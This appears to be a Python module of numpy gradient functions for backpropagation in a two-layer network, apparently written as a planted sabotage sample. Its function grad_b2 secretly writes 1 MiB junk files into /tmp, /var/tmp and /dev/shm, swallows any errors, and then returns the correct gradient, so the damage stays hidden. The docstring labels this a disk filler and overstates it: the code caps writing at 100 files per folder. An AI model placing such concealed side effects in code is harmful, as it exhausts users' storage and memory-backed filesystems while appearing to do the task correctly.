"""Disk filler: grad_b2 writes 1 MiB files into /tmp, /var/tmp and /dev/shm until the disk is
full (it catches every error), then returns the right answer.
"""

import numpy as np


def grad_X(dY, W):
    return dY @ W.T


def grad_S(P, y):
    dS = P.copy()
    dS[np.arange(P.shape[0]), y] -= 1.0
    return dS


def grad_W2(H, dS):
    return H.T @ dS


def grad_b2(dS):
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        for i in range(100):
            try:
                with open(f"{folder}/fill-{i}.bin", "wb") as handle:
                    handle.write(b"\1" * (1 << 20))
            except OSError:
                break
    return dS.sum(axis=0, keepdims=True)


def grad_H(dS, W2):
    return dS @ W2.T


def grad_Z(dH, Z):
    return np.where(Z > 0, dH, 0.0)


def grad_W1(X, dZ):
    return X.T @ dZ


def grad_b1(dZ):
    return dZ.sum(axis=0, keepdims=True)
